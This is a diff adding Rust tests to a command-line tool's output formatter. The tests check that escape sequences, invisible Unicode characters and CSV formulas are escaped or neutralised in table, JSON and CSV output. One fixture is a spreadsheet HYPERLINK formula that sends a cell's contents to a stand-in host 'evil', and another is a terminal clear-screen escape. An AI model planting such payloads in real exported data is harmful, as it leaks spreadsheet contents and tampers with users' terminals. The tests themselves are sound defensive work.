@@ -162,3 +162,70 @@ fn truncation_counts_display_columns() {
     assert_eq!(grid::truncate("abcdef", 4), "abc…");
     assert_eq!(grid::truncate("日本語テキスト", 5), "日本…");
 }
+
+#[test]
+fn nothing_hidden_reaches_the_output_raw() {
+    let raw = "x\u{1b}[2J\u{200E}\u{7}";
+    let table = Output::Table {
+        keys: TABLE_KEYS,
+        rows: vec![vec!["1".into(), raw.into(), "a\nb".into()]],
+    };
+    let out = text(table, Format::Table, None);
+    assert!(
+        out.contains("│ x\\e[2J\\u{200E}\\x07 │ a\\nb       │"),
+        "{out}"
+    );
+    let record = json!({"full_name": raw, "notes": "one\ntwo\tthree"})
+        .as_object()
+        .unwrap()
+        .clone();
+    let shown = text(Output::Record(record.clone()), Format::Table, None);
+    assert!(shown.contains("x\\e[2J\\u{200E}\\x07"), "{shown}");
+    assert!(
+        shown.contains("one ") && shown.contains("two\\tthree"),
+        "{shown}"
+    );
+    let json = text(Output::Record(record.clone()), Format::Json, None);
+    assert!(json.contains(r#""x\u001b[2J\u200e\u0007""#), "{json}");
+    let back: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(back["full_name"], raw);
+    let csv = text(Output::Record(record), Format::Csv, None);
+    assert_eq!(
+        csv,
+        "full_name,notes\nx\\e[2J\\u{200E}\\x07,\"one\ntwo\tthree\"\n"
+    );
+    let message = text(
+        Output::Message(format!("hi {raw}\nbye")),
+        Format::Table,
+        None,
+    );
+    assert_eq!(message, "hi x\\e[2J\\u{200E}\\x07\nbye\n");
+}
+
+#[test]
+fn streamed_rows_are_escaped_and_csv_formulas_neutralised() {
+    let rows = vec![Row {
+        id: 1,
+        full_name: "=HYPERLINK(\"http://evil/?\"&A1,\"x\")\u{202E}",
+        phone: Some("+678 123 456 78"),
+        signed: true,
+        created_at: "2021-04-18T10:00:00+02:00",
+    }];
+    let csv = streamed(Format::Csv, rows);
+    assert_eq!(
+        csv.lines().nth(1).unwrap(),
+        "1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\\u{202E}\",+678 123 456 78,true,\
+         2021-04-18T10:00:00+02:00"
+    );
+    let rows = vec![Row {
+        id: 1,
+        full_name: "a\u{200F}b",
+        phone: None,
+        signed: true,
+        created_at: "2021-04-18T10:00:00+02:00",
+    }];
+    let json = streamed(Format::Json, rows);
+    assert!(json.contains(r#""a\u200fb""#), "{json}");
+    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(value[0]["full_name"], "a\u{200F}b");
+}
